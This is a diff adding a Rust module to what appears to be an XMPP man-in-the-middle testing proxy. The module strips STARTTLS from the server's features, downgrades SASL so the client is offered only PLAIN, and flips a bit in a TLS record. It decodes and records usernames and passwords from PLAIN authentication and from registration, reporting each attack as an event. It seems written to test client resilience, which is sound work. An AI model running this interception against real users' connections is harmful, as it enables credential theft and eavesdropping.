@@ -1,0 +1,182 @@
+//! What the proxy does with each unit going past: report it, take the
+//! secrets in it, and change it when an attack says so (the server's
+//! features, where STARTTLS and the SASL mechanisms are offered).
+
+use base64::Engine;
+use base64::engine::general_purpose::STANDARD as B64;
+use protocol::sasl;
+use protocol::{Element, Node, ns};
+
+use super::context::Conn;
+use crate::attack::Attack;
+use crate::event::{Dir, Event, summarize};
+use crate::records::Records;
+use crate::xmpp::{Piece, RawReason, Unit};
+
+/// Counts the TLS records going past, and flips `corrupt-tls`' bit.
+pub(crate) fn follow_records(c: &Conn, dir: Dir, records: &mut Records, bytes: &mut [u8]) {
+    let before = records.flipped();
+    records.track(bytes);
+    let mut f = c.facts();
+    match dir {
+        Dir::ClientToServer => f.records.0 = records.app_data(),
+        Dir::ServerToClient => f.records.1 = records.app_data(),
+    }
+    if records.flipped() && !before {
+        f.flipped = Some(f.records.1);
+        drop(f);
+        c.report_attack(
+            Attack::CorruptTls,
+            format!(
+                "flipped one bit of TLS application-data record #{} from the client",
+                c.shared.corrupt_record
+            ),
+        );
+    }
+}
+
+/// Records and reports where a direction stopped being readable.
+pub(crate) fn opaque(c: &Conn, dir: Dir, at: u64, reason: &RawReason) {
+    let why = match reason {
+        RawReason::Tls => "TLS".to_string(),
+        RawReason::DirectTls => "direct TLS from the first byte".to_string(),
+        RawReason::Unreadable(e) => format!("not readable XMPP ({e})"),
+    };
+    if dir == Dir::ClientToServer {
+        let mut f = c.facts();
+        match reason {
+            RawReason::Tls => f.tls_at = Some(at),
+            RawReason::DirectTls => f.direct_tls = true,
+            RawReason::Unreadable(_) => {}
+        }
+    }
+    c.shared.report.emit(Event::Opaque {
+        conn: c.id,
+        dir,
+        at_byte: at,
+        reason: why,
+    });
+}
+
+/// Looks at one unit, applies the attacks to it, and appends what is to
+/// be forwarded to `out`.
+pub(crate) fn inspect(c: &Conn, dir: Dir, piece: Piece, out: &mut Vec<u8>) {
+    match piece.unit {
+        Unit::Header(h) => {
+            c.shared.report.emit(Event::Stream {
+                conn: c.id,
+                dir,
+                to: h.to.clone(),
+                from: h.from.clone(),
+            });
+            out.extend_from_slice(&piece.bytes);
+        }
+        Unit::Element(el) => {
+            c.facts().stanzas += 1;
+            // The server's features may be changed by an attack: the
+            // line shows what the client really gets.
+            let changed = match dir {
+                Dir::ClientToServer => None,
+                Dir::ServerToClient => server_element(c, &el),
+            };
+            let shown = changed.as_ref().unwrap_or(&el);
+            c.shared.report.emit(Event::Stanza {
+                conn: c.id,
+                dir,
+                stanza: summarize(shown),
+            });
+            if dir == Dir::ClientToServer {
+                client_element(c, &el);
+            }
+            match changed {
+                Some(new) => out.extend_from_slice(new.to_xml().as_bytes()),
+                None => out.extend_from_slice(&piece.bytes),
+            }
+        }
+        Unit::Close | Unit::Raw => out.extend_from_slice(&piece.bytes),
+    }
+}
+
+/// What the client sends: the secrets the attacker is after.
+fn client_element(c: &Conn, el: &Element) {
+    if el.is("starttls", ns::TLS) {
+        c.facts().client_starttls = true;
+    } else if el.is("auth", ns::SASL) {
+        let mech = el.get_attr("mechanism").unwrap_or("").to_string();
+        c.facts().mechanism = Some(mech.clone());
+        if mech == "PLAIN"
+            && let Ok(raw) = B64.decode(el.text_content().trim())
+            && let Ok(creds) = sasl::parse_plain(&raw)
+        {
+            captured(c, creds.username, creds.password, "SASL PLAIN");
+        }
+    } else if let Some(q) = el
+        .get_child("query", ns::REGISTER)
+        .filter(|_| el.name == "iq" && el.get_attr("type") == Some("set"))
+        && let (Some(user), Some(password)) = (
+            q.child_text("username", ns::REGISTER),
+            q.child_text("password", ns::REGISTER),
+        )
+    {
+        captured(c, user, password, "registration");
+    }
+}
+
+fn captured(c: &Conn, user: String, secret: String, source: &str) {
+    c.facts().password = Some((user.clone(), source.to_string()));
+    c.shared.report.emit(Event::Captured {
+        conn: c.id,
+        what: "password".into(),
+        user,
+        secret,
+        source: source.into(),
+    });
+}
+
+/// What the server sends: the features are where STARTTLS and the SASL
+/// mechanisms are offered, so that is where the attacks cut. Returns
+/// the element to send instead, if it was changed.
+fn server_element(c: &Conn, el: &Element) -> Option<Element> {
+    if !el.is("features", ns::STREAM) {
+        return None;
+    }
+    if el.has_child("starttls", ns::TLS) {
+        c.facts().starttls_offered = true;
+    }
+    let mut new = el.clone();
+    let mut changed = false;
+    if c.shared.attacks.contains(&Attack::StripStarttls) && new.has_child("starttls", ns::TLS) {
+        new.children
+            .retain(|n| !matches!(n, Node::Element(c) if c.is("starttls", ns::TLS)));
+        c.facts().starttls_stripped = true;
+        c.report_attack(
+            Attack::StripStarttls,
+            "removed <starttls/> from the features the client sees".into(),
+        );
+        changed = true;
+    }
+    if c.shared.attacks.contains(&Attack::DowngradeSasl)
+        && let Some(mechs) = new.get_child_mut("mechanisms", ns::SASL)
+    {
+        let offered: Vec<String> = mechs
+            .elements()
+            .filter(|m| m.name == "mechanism")
+            .map(Element::text_content)
+            .collect();
+        if offered.iter().any(|m| m == "PLAIN") && offered.len() > 1 {
+            mechs
+                .children
+                .retain(|n| !matches!(n, Node::Element(m) if m.name == "mechanism" && m.text_content() != "PLAIN"));
+            c.facts().mechanisms_replaced = true;
+            c.report_attack(
+                Attack::DowngradeSasl,
+                format!(
+                    "offered the client only PLAIN instead of {}",
+                    offered.join(", ")
+                ),
+            );
+            changed = true;
+        }
+    }
+    changed.then_some(new)
+}
